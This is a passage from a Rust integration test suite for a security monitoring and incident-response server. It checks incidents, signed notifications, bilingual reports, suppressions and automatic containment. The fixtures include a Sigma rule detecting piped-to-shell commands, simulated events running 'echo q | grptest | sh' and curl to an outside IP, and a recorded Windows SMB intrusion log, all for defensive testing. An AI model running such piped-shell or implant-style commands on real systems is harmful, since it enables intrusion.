            .any(|d| d["address"] == "203.0.113.9:443" && d["external"] == true),
        "{inc}"
    );
    assert!(inc["techniques"].to_string().contains("T1059.004"));
    let file = &inc["files"][0];
    assert_eq!(file["path"], "/tmp/.x/implant");
    assert_eq!(file["sha256"], "ab".repeat(32));
    assert_eq!(file["seen_on"][0]["host"], "web1", "trajectory: {inc}");
    let tree = inc["process_tree"].as_array().unwrap();
    let child = tree.iter().find(|p| p["pid"] == 501).unwrap();
    let parent = tree.iter().find(|p| p["pid"] == 500).unwrap();
    assert_eq!(
        child["depth"].as_i64().unwrap(),
        parent["depth"].as_i64().unwrap() + 1,
        "{tree:?}"
    );
    assert!(
        inc["actions"]
            .as_array()
            .unwrap()
            .iter()
            .any(|a| a["action"] == "isolate" && a["automatic"] == true),
        "automatic containment is part of the incident: {inc}"
    );
    assert!(inc["clocks"]["first_notice_due"].as_i64().unwrap() > 0);
    let noise_inc = get_json(
        &srv,
        port,
        &admin,
        &format!("/api/v1/incidents/{}", noise["id"]),
    );
    assert_eq!(noise_inc["verdict"], "benign-likely", "{noise_inc}");

    // Notifications: email (notice, then the report with its PDF), signed webhook, Slack.
    let deadline = Instant::now() + Duration::from_secs(30);
    let mut got: Vec<(String, String, String)> = Vec::new();
    while Instant::now() < deadline
        && (mails(&maildir).len() < 2 || got.iter().filter(|h| h.0 == "/hook").count() < 2)
    {
        while let Ok(h) = hooks.try_recv() {
            got.push(h);
        }
        std::thread::sleep(Duration::from_millis(200));
    }
    while let Ok(h) = hooks.try_recv() {
        got.push(h);
    }
    let m = mails(&maildir);
    assert_eq!(m.len(), 2, "a notice and a report by email: {m:?}");
    assert!(m.iter().all(|x| x.contains("soc@example.com")));
    assert!(
        m.iter().any(|x| x.contains("application/pdf")),
        "the report carries its PDF"
    );
    let hook: Vec<_> = got.iter().filter(|h| h.0 == "/hook").collect();
    assert_eq!(hook.len(), 2, "{got:?}");
    let body: serde_json::Value = serde_json::from_str(&hook[0].2).unwrap();
    assert_eq!(body["incident"]["id"], id);
    assert_eq!(body["kind"], "notice");
    let sig = hook[0]
        .1
        .lines()
        .find_map(|l| l.strip_prefix("X-Mamori-Signature: sha256="))
        .expect("signed");
    // The signature is HMAC-SHA256 of the body with the shared key.
    let expected = Command::new("openssl")
        .args(["dgst", "-sha256", "-hmac", "hook-secret", "-r"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .and_then(|mut c| {
            use std::io::Write;
            c.stdin.take().unwrap().write_all(hook[0].2.as_bytes())?;
            c.wait_with_output()
        })
        .map(|o| {
            String::from_utf8_lossy(&o.stdout)
                .split(' ')
                .next()
                .unwrap_or("")
                .to_string()
        })
        .expect("openssl (apt install openssl; scripts/deps.sh does)");
    assert_eq!(expected.len(), 64, "openssl printed an HMAC");
    assert_eq!(sig.trim(), expected, "HMAC-SHA256 over the body");
    assert!(
        got.iter()
            .any(|h| h.0 == "/slack" && h.2.contains("\"text\"")),
        "{got:?}"
    );
    assert!(
        got.iter()
            .any(|h| h.0 == "/teams" && h.2.contains("\"@type\":\"MessageCard\"")),
        "{got:?}"
    );
    let inc = get_json(&srv, port, &admin, &format!("/api/v1/incidents/{id}"));
    let notices = inc["notifications"].as_array().unwrap();
    let (ok, failed): (Vec<&serde_json::Value>, Vec<&serde_json::Value>) =
        notices.iter().partition(|n| n["ok"] == true);
    assert!(
        ok.iter().all(|n| n["channel"] != "webhook#5"),
        "{notices:?}"
    );
    assert!(
        !failed.is_empty()
            && failed.iter().all(|n| n["channel"] == "webhook#5"
                && n["error"].as_str().unwrap().contains("cannot connect")),
        "the channel that is down, with the reason: {notices:?}"
    );
    let (due, at) = (
        inc["clocks"]["first_notice_due"].as_i64().unwrap(),
        inc["clocks"]["first_notice_at"]
            .as_i64()
            .expect("first notice delivered"),
    );
    assert!(at <= due, "the first-notice clock is met");
    assert!(inc["clocks"]["report_at"].as_i64().is_some(), "{inc}");
    let noise_inc = get_json(
        &srv,
        port,
        &admin,
        &format!("/api/v1/incidents/{}", noise["id"]),
    );
    assert!(
        noise_inc["notifications"].as_array().unwrap().is_empty(),
        "below every channel's severity"
    );

    // Reports in both languages, HTML and PDF.
    let (code, html) = api(
        &srv,
        port,
        Some(&admin),
        "GET",
        &format!("/api/v1/incidents/{id}/report?lang=en&format=html"),
        None,
    );
    assert_eq!(code, 200);
    for needle in [
        "What to do now",
        "203.0.113.9",
        "/tmp/.x/implant",
        "web1",
        "alice",
    ] {
        assert!(html.contains(needle), "{needle} not in the report");
    }
    let pdf = srv.join("report-ja.pdf");
    let out = Command::new("curl")
        .args(["-s", "--cacert"])
        .arg(srv.join("server/pki/ca.pem"))
        .args(["-H", &format!("Authorization: Bearer {admin}"), "-o"])
        .arg(&pdf)
        .arg(format!(
            "https://127.0.0.1:{port}/api/v1/incidents/{id}/report?lang=ja&format=pdf"
        ))
        .status()
        .unwrap();
    assert!(out.success());
    let text = Command::new("pdftotext")
        .args(["-enc", "UTF-8"])
        .arg(&pdf)
        .arg("-")
        .output()
        .expect("pdftotext (apt install poppler-utils)");
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(
        text.contains("今すぐ行うこと") && text.contains("web1"),
        "{text}"
    );
    let monthly = get_json(&srv, port, &admin, "/api/v1/reports/monthly?format=json");
    assert!(
        monthly["incidents_by_severity"]
            .to_string()
            .contains("[\"critical\",1]"),
        "{monthly}"
    );
    let (code, mhtml) = api(
        &srv,
        port,
        Some(&admin),
        "GET",
        "/api/v1/reports/monthly?lang=ja",
        None,
    );
    assert_eq!(code, 200);
    assert!(mhtml.contains("<svg") && mhtml.contains("月次レポート"));

    // Tuning: the noise is suggested, previewed, suppressed, and then counted.
    let tuning = get_json(&srv, port, &admin, "/api/v1/tuning");
    let noisy = tuning["noisiest_rules"]
        .as_array()
        .unwrap()
        .iter()
        .find(|n| n["rule_title"] == "Test Admin Noise")
        .cloned()
        .unwrap_or_else(|| panic!("{tuning}"));
    assert_eq!(noisy["preview"]["alerts"], 1, "{noisy}");
    let scope = r#"{"rule_id": "5b7f6a4e-0000-4000-8000-00000000c5e3", "user": "bob", "reason": "bob's inventory script", "expires_days": 30}"#;
    let (code, body) = api(
        &srv,
        port,
        Some(&admin),
        "POST",
        "/api/v1/suppressions/preview",
        Some(scope),
    );
    assert_eq!(code, 200, "{body}");
    assert!(body.contains("\"alerts\":1"), "{body}");
    let (code, body) = api(
        &srv,
        port,
        Some(&admin),
        "POST",
        "/api/v1/suppressions",
        Some(r#"{"reason": "everything", "expires_days": 30}"#),
    );
    assert_eq!(code, 400, "a suppression of everything is refused: {body}");
    let (code, body) = api(
        &srv,
        port,
        Some(&admin),
        "POST",
        "/api/v1/suppressions",
        Some(r#"{"user": "bob", "reason": "", "expires_days": 30}"#),
    );
    assert!(code == 400 && body.contains("reason"), "{body}");
    let (code, body) = api(
        &srv,
        port,
        Some(&admin),
        "POST",
        "/api/v1/suppressions",
        Some(scope),
    );
    assert_eq!(code, 201, "{body}");
    let before = alerts(&srv).len();
    send(
        &a,
        &[
            admin_exec(901, "bob", "noisetest --again"),
            admin_exec(902, "carol", "noisetest --by-carol"),
        ],
    );
    let v = wait_alerts(&srv, |v| v.len() > before);
    std::thread::sleep(Duration::from_millis(500));
    let v2 = alerts(&srv);
    assert_eq!(
        v2.len(),
        before + 1,
        "bob's is suppressed, carol's is not: {v:?}"
    );
    let s = get_json(&srv, port, &admin, "/api/v1/suppressions");
    assert_eq!(s[0]["hits"], 1, "{s}");

    // Closing is audited and closes the alerts.
    let (code, _) = api(
        &srv,
        port,
        Some(&admin),
        "POST",
        &format!("/api/v1/incidents/{id}/status"),
        Some(r#"{"status": "closed", "reason": "contained and cleaned"}"#),
    );
    assert_eq!(code, 200);
    let inc = get_json(&srv, port, &admin, &format!("/api/v1/incidents/{id}"));
    assert_eq!(inc["status"], "closed");
    let audit = get_json(&srv, port, &admin, "/api/v1/audit").to_string();
    for a in ["incident.open", "suppression.add", "incident.status"] {
        assert!(audit.contains(a), "audit lacks {a}");
    }
    assert!(!audit.contains("hook-secret"), "secrets are never logged");
}

/// A recorded intrusion (an encrypted payload deployed as a service over SMB, from the
/// EVTX-to-MITRE-Attack set) uploaded as a Windows host's logs: written down in advance, it
/// must become Critical incident(s) judged malicious, whose report says the host is seen only
/// through uploaded logs (no isolation possible), with the process tree from the 4688 events.
#[test]
fn recorded_windows_intrusion_becomes_a_critical_incident() {
    let shared = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data");
    let rules = shared.join("sigma/rules/windows");
    let evtx = shared.join(
        "evtx/EVTX-to-MITRE-Attack/EVTX_full_APT_attack_steps/\
         ID5140-5145,4688,4697-Encrypted payload deployed with service over SMB (GLOBAL).evtx",
    );
    assert!(
        rules.is_dir() && evtx.is_file(),
        "shared test data missing in {}",
        shared.display()
    );
    let srv = tempdir("server", "recorded-srv");
    let port = free_port();
    let (server, _) = start_server_with(&srv, port, &["--rules", rules.to_str().unwrap()]);
    let admin = server.admin.clone().unwrap();
    let (code, body) = curl(
        &srv,
        port,
        Some(&admin),
        "/api/v1/ingest/windows?host=fs03vuln",
        Some(&format!("@{}", evtx.display())),
    );
    assert_eq!(code, 200, "{body}");
    let deadline = Instant::now() + Duration::from_secs(30);
    let list = loop {
        let v = get_json(&srv, port, &admin, "/api/v1/incidents");
        let list = v.as_array().unwrap().clone();
        if list.iter().any(|i| i["severity"] == "critical") || Instant::now() > deadline {
            break list;
        }
        std::thread::sleep(Duration::from_millis(300));
    };
    let critical: Vec<_> = list
        .iter()
        .filter(|i| i["severity"] == "critical")
        .collect();
    assert!(
        !critical.is_empty(),
        "expected a Critical incident: {list:?}"
    );
    std::thread::sleep(Duration::from_secs(1));
    let list = get_json(&srv, port, &admin, "/api/v1/incidents");
    let critical: Vec<_> = list
        .as_array()
        .unwrap()
        .iter()
        .filter(|i| i["severity"] == "critical")
        .cloned()
        .collect();
    assert_eq!(
        critical.len(),
        1,
        "one attack, one Critical incident: {list}"
    );
    let id = critical[0]["id"].as_i64().unwrap();
    let inc = get_json(&srv, port, &admin, &format!("/api/v1/incidents/{id}"));
    assert_eq!(inc["verdict"], "malicious", "{inc}");
    assert_eq!(inc["hosts"][0]["agent"], "win:fs03vuln");
    assert!(
        inc["blind_spots"]
            .to_string()
            .contains("known only from uploaded Windows logs"),
        "{inc}"
    );
    assert!(
        inc["actions"].as_array().unwrap().is_empty(),
        "nothing to isolate: {inc}"
    );
    assert!(
        inc["process_tree"]
            .as_array()
            .unwrap()
            .iter()
            .any(|p| p["depth"].as_i64().unwrap_or(0) >= 1),
        "the 4688 events give a process tree: {inc}"
    );
    let (code, html) = api(
        &srv,
        port,
        Some(&admin),
        "GET",
        &format!("/api/v1/incidents/{id}/report?lang=ja"),
        None,
    );
    assert_eq!(code, 200);
    assert!(html.contains("fs03vuln") && html.contains("今すぐ行うこと"));
}

/// A host group whose policy is `kill` (a critical server that must stay on the network):
/// its Critical alert kills the process tree instead of isolating the host; other hosts are
/// still isolated.
#[test]
fn host_groups_get_limited_containment() {
    let srv = tempdir("server", "group-srv");
    let rules = srv.join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(
        rules.join("r.yml"),
        "title: Test Piped Shell\nid: 5b7f6a4e-0000-4000-8000-00000000c5e4\nstatus: test\n\
         level: high\nlogsource:\n  product: linux\n  category: process_creation\n\
         detection:\n  selection:\n    CommandLine|contains: 'grptest | sh'\n  condition: selection\n",
    )
    .unwrap();
    let policy = srv.join("soc-policy.toml");
    std::fs::write(
        &policy,
        "[containment.groups.databases]\nhosts = [\"db-*\"]\ncritical = \"kill\"\n",
    )
    .unwrap();
    let config = srv.join("server.toml");
    std::fs::write(&config, format!("soc_policy = \"{}\"\n", policy.display())).unwrap();
    let port = free_port();
    let (server, fp) = start_server_with(
        &srv,
        port,
        &[
            "--rules",
            rules.to_str().unwrap(),
            "--config",
            config.to_str().unwrap(),
        ],
    );
    let admin = server.admin.clone().unwrap();
    let a = tempdir("server", "group-agent");
    enroll(&a, port, &token(&srv, &[]), &fp).unwrap();
    let agent = agent_id(&a);
    let on = |host: &str, e: String| e.replace("\"web1\"", &format!("\"{host}\""));
    let connect = |pid: u32, parent: u32| {
        format!(
            r#"{{"@timestamp":"2026-11-26T10:00:01Z","event":{{"kind":"event","category":["network"],"type":["connection","start"],"action":"connect","module":"mamori","dataset":"mamori.network"}},"host":{{"name":"db-1"}},"process":{{"pid":{pid},"entity_id":"boot:{pid}:1","executable":"/usr/bin/curl","parent":{{"pid":{parent},"entity_id":"boot:{parent}:1"}}}},"destination":{{"ip":"203.0.113.50","port":443}},"network":{{"transport":"tcp"}}}}"#
        )
    };
    send(
        &a,
        &[
            on("db-1", exec_event(800, "echo q | grptest | sh")),
            connect(801, 800),
        ],
    );
    let deadline = Instant::now() + Duration::from_secs(15);
    let actions = loop {
        let (_, body) = api(
            &srv,
            port,
            Some(&admin),
            "GET",
            &format!("/api/v1/actions?agent={agent}"),
            None,
        );
        let list: Vec<serde_json::Value> = serde_json::from_str::<serde_json::Value>(&body)
            .unwrap()
            .as_array()
            .cloned()
            .unwrap_or_default();
        if !list.is_empty() || Instant::now() > deadline {
            break list;
        }
        std::thread::sleep(Duration::from_millis(200));
    };
    assert_eq!(actions.len(), 1, "{actions:?}");
    let kill = &actions[0];
    assert_eq!(kill["action"], "kill", "{kill}");
    assert_eq!(kill["issued_by"], "policy:auto-contain");
    assert_eq!(kill["request"]["pid"], 800);
    assert_eq!(kill["request"]["start_ticks"], 1);
    assert_eq!(kill["request"]["tree"], true);
    assert!(
        kill["reason"].as_str().unwrap().contains("limited: kill"),
        "{kill}"
    );
    // The incident's report says what the policy did instead of isolating.
    let list = get_json(&srv, port, &admin, "/api/v1/incidents");
    let id = list[0]["id"].as_i64().unwrap();
    let (code, html) = api(
        &srv,
        port,
        Some(&admin),
        "GET",
        &format!("/api/v1/incidents/{id}/report?lang=en"),
        None,
    );
    assert_eq!(code, 200);
    assert!(
        html.contains("stopped the offending process tree on db-1 automatically"),
        "{html}"
    );
}
